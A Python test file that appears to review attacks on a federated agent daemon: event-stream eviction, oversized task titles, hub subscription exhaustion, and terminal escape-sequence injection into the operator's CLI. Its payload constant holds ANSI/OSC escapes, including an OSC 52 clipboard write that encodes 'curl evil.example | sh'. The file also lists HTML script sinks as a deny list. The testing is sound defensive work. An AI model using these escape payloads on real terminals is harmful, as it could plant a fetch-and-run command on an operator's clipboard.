"""A fresh attack review: classes the earlier reviews (tests/test_attack*.py and the
federation, replay and workspace reviews) did not try.

- The EVENTS stream of an entity keeps its peers' events too (events.peers, on by
  default) in one stream bounded by size that drops the oldest first: a member publishing
  on its own fed.evt.<self>.> evicts the entity's own history (watch --since, the web
  page's activity and its resumption).
- The task list: an offer's title had no length limit and tasks were never pruned: two
  600 KiB titles made the list too large to answer for good (fixed: bounded texts, the
  newest 200 listed, a member's refused offers kept to its newest 50).
- The hub: no max_subscriptions for a member's leaf user; every subscription a member
  opened was interest the hub kept (about 1 KB each) and passed on (fixed: 4096 per
  connection on the hub).
- The operator's terminal: `entityctl` printed what a member chose (an incoming task's
  title, a member's own signed events under `watch --all`, a subject the entity's own
  rejected event carried) as it was: ESC/CSI/OSC sequences could erase and rewrite
  lines, set the window title, or (OSC 52) write the clipboard (fixed:
  entityd/app/terminal.py).

Each test asserts the safe behaviour; those marked xfail(strict) fail while the hole they
name is open.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nats.js.errors
import pytest

import protocol
from actors.peer.messages import TaskOffer
from bench.rig import Federation, edit
from entityd import config as config_mod
from entityd import federation, identity
from entityd.client import EntityClient
from protocol import Event
from tests.helpers import (
    BIN,
    child_env,
    command_into_inbox,
    free_port,
    hostile_client,
    monitor,
    poll,
    scripted_federation,
    task_by_id,
)
from tests.peer_model import route

pytestmark = pytest.mark.timeout(180)
A, B = "entity-a", "entity-b"

# What a hostile member writes where the operator reads: erase the line, write a forged
# one, set the terminal's title, put a command on the clipboard (OSC 52), and a bare CR.
ESCAPES = ("\x1b[2K\r\x1b[1Aforged line\x1b]0;owned\x07"
           "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\rxx")
CONTROL = {chr(c) for c in range(32) if chr(c) not in "\n\t"} | {"\x7f"} | {
    chr(c) for c in range(0x80, 0xa0)}


def controls(text: str) -> set[str]:
    return {c for c in text if c in CONTROL}


async def test_a_members_task_title_reaches_the_terminal_as_text(tmp_path: Path) -> None:
    async with scripted_federation(tmp_path, [A, B], route) as fed:
        await fed.discovered()
        a, b = fed[A], fed[B]
        # b offers a a task (refused or not, a records it with b's title).
        record = TaskOffer("esc1", f"Write calc.add{ESCAPES}", "with a test", "",
                           time.time() + 600, ["nonexistent-capability"], 0, b"")
        await command_into_inbox(b, a, "delegate", record)
        await poll(lambda: task_by_id(a, "in", "esc1"), timeout=30, what="a records it")
        code, out, err = await a.ctl("tasks")
        assert code == 0, out + err
        assert "Write calc.add" in out, out
        assert not controls(out), repr(out)


async def test_a_members_event_reaches_watch_all_as_text(tmp_path: Path) -> None:
    async with scripted_federation(tmp_path, [A, B], route) as fed:
        await fed.discovered()
        a, b = fed[A], fed[B]
        key = identity.load(B, b.data).signing_key
        subject = protocol.subjects.event(B, "peer", "note")
        wire, _ = protocol.seal(key, src=f"{B}/peer", dst=protocol.BROADCAST, subj=subject,
                                message=Event("note", "peer", {"text": f"marker{ESCAPES}"}))
        async with hostile_client(b) as nc:
            await nc.publish(subject, wire)
            await nc.flush()
        text = await watched_line(a.config, b"marker", "--all", "--since", "10m")
        assert text.startswith(B), text
        assert not controls(text), repr(text)


async def test_big_offers_of_a_member_leave_the_task_list_readable(tmp_path: Path) -> None:
    async with scripted_federation(tmp_path, [A, B], route) as fed:
        await fed.discovered()
        a, b = fed[A], fed[B]
        big = "T" * (600 * 1024)
        for n in range(2):
            record = TaskOffer(f"big{n}", big, "", "", time.time() + 600,
                               ["nonexistent-capability"], 0, b"")
            await command_into_inbox(b, a, "delegate", record)
        # Both recorded (refused) and listed, their titles clipped: the list stays readable.
        await poll(lambda: task_by_id(a, "in", "big1"), timeout=30, what="a records them")
        code, out, err = await a.ctl("tasks", "--json")
        assert code == 0, (out + err)[-2000:]
        assert len(out) < 20_000, len(out)
        listed = await task_by_id(a, "in", "big0")
        assert listed is not None and len(listed["title"]) <= 160, listed
        assert "title is 614400 characters" in listed["note"], listed


EVENTS_BYTES = 1024 * 1024  # the test's size of a's EVENTS stream (256 MiB by default)


async def test_a_members_events_do_not_evict_the_entitys_own(tmp_path: Path) -> None:
    """b fills a's federation feed (EVENTS) with junk under its own name, twice its size:
    the feed loses a's events, a's own history (EVENTS-<a>-OWN, sourced from it with its
    own limits) keeps them, and `watch --since` (which reads it) still shows them."""
    def small_stream(fed: Federation) -> None:
        edit(fed[A].config, "max_bytes = 268435456", f"max_bytes = {EVENTS_BYTES}")

    async with scripted_federation(tmp_path, [A, B], route, prepare=small_stream) as fed:
        await fed.discovered()
        a, b = fed[A], fed[B]
        own = protocol.subjects.event(A, "peer", "peer_discovered")
        async with EntityClient(config_mod.load(a.config)) as client:
            assert client._transport is not None
            js = client._transport.nc.jetstream()
            feed, history = f"EVENTS-{A}", f"EVENTS-{A}-OWN"
            first = await js.get_last_msg(feed, own)
            await poll(lambda: _has(js, history, own), timeout=10, what="a's own copy")
            # b publishes junk under its own name only (the hub lets it), twice a's size.
            async with hostile_client(b) as nc:
                for n in range(2 * EVENTS_BYTES // (64 * 1024)):
                    await nc.publish(f"fed.evt.{B}.peer.junk{n % 4}", b"j" * 64 * 1024)
                await nc.flush()

            async def flooded() -> bool:
                return (await js.stream_info(feed)).state.first_seq > first.seq
            await poll(flooded, timeout=30, what="b's junk evicting a's events in the feed")
            assert await _has(js, history, own), "a's own history lost its event"
            line = await watched_line(a.config, b"peer_discovered", "--since", "1h", "--json")
            assert A in line and "junk" not in line


async def _has(js: Any, stream: str, subject: str) -> bool:
    try:
        await js.get_last_msg(stream, subject)
    except nats.js.errors.NotFoundError:
        return False
    return True


SUBS = 30_000  # distinct subscriptions a member opens on its own leaf
SUBS_CAP = 10_000  # what one member should be allowed to hold at the hub, at most


def hub_monitored(port: int) -> Callable[[Federation], None]:
    def add(fed: Federation) -> None:
        conf = fed.root / "hub.conf"
        conf.write_text(f'http: "127.0.0.1:{port}"\n' + conf.read_text())
    return add


async def test_a_member_cannot_make_the_hub_hold_unbounded_subscriptions(
        tmp_path: Path) -> None:
    port = free_port()
    async with scripted_federation(tmp_path, [A, B], route,
                                   prepare=hub_monitored(port)) as fed:
        await fed.discovered()
        before = await monitor(port, "/varz")
        normal = max(leaf.get("subscriptions", 0)
                     for leaf in (await monitor(port, "/leafz"))["leafs"])
        # A member as it runs needs far fewer than the hub allows (federation.py).
        assert normal < federation.HUB_MAX_SUBSCRIPTIONS // 8, normal
        async with hostile_client(fed[B]) as nc:
            for n in range(SUBS):
                await nc.subscribe(f"_i.{B}.s{n}")
            await nc.flush()

            async def settled() -> int | None:
                leafz = await monitor(port, "/leafz")
                held = max(leaf.get("subscriptions", 0) for leaf in leafz["leafs"])
                return held if held >= SUBS_CAP else None
            try:
                held = await poll(settled, timeout=20, what="b's subscriptions at the hub")
            except AssertionError:
                held = 0
            after = await monitor(port, "/varz")
            assert held < SUBS_CAP, (held, before["subscriptions"], after["subscriptions"],
                                     before["mem"], after["mem"])
            # a, beside it, still reaches b and is reached: its leaf kept its interest.
            code, out, err = await fed[A].ctl("check", B)
            assert code == 0, out + err


async def watched_line(config: Path, marker: bytes, *args: str) -> str:
    """The first line of `entityctl watch ARGS` holding `marker` (ESC sequences and all)."""
    proc = await asyncio.create_subprocess_exec(
        str(BIN / "entityctl"), "--config", str(config), "watch", *args,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL, env=child_env())
    assert proc.stdout is not None
    seen = b""
    try:
        async with asyncio.timeout(60):
            while marker not in seen:
                line = await proc.stdout.readline()
                assert line, seen
                seen += line
    finally:
        proc.terminate()
        await proc.wait()
    return next(line for line in seen.decode().split("\n") if marker.decode() in line)


async def test_a_members_subject_reaches_the_entitys_own_watch_as_text(
        tmp_path: Path) -> None:
    async with scripted_federation(tmp_path, [A, B], route) as fed:
        await fed.discovered()
        a, b = fed[A], fed[B]
        async with hostile_client(b) as nc:
            subject = f"fed.req.{A}.{B}.marker\x1b]0;owned\x07\x1b[2K"
            await nc.publish(subject, b"not an envelope")
            await nc.flush()
        line = await watched_line(a.config, b"marker", "--since", "10m")
        assert "rejected" in line, line
        assert not controls(line), repr(line)


async def test_the_json_outputs_carry_a_members_escapes_escaped(tmp_path: Path) -> None:
    """Held: `--json` (tasks, watch) escapes every control character, so scripts and an
    operator who pipes it see the member's bytes as text."""
    async with scripted_federation(tmp_path, [A, B], route) as fed:
        await fed.discovered()
        a, b = fed[A], fed[B]
        record = TaskOffer("esc2", f"Write calc.add{ESCAPES}", "", "", time.time() + 600,
                           ["nonexistent-capability"], 0, b"")
        await command_into_inbox(b, a, "delegate", record)
        await poll(lambda: task_by_id(a, "in", "esc2"), timeout=30, what="a records it")
        code, out, err = await a.ctl("tasks", "--json")
        assert code == 0 and "esc2" in out, out + err
        assert not controls(out.replace("\n", "")), repr(out)
        async with hostile_client(b) as nc:
            await nc.publish(f"fed.req.{A}.{B}.marker\x1b[2K", b"not an envelope")
            await nc.flush()
        line = await watched_line(a.config, b"marker", "--since", "10m", "--json")
        assert not controls(line), repr(line)


def test_the_web_page_never_renders_peer_text_as_html() -> None:
    """Held: the page's script puts every value in with textContent (peer names, titles,
    notes, events): no innerHTML, insertAdjacentHTML, outerHTML or document.write, so the
    terminal class above has no HTML twin on the page."""
    static = Path(__file__).resolve().parent.parent / "actors" / "web" / "static"
    for script in static.glob("*.js"):
        text = script.read_text()
        for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write",
                     "eval(", "new Function"):
            assert sink not in text, (script.name, sink)
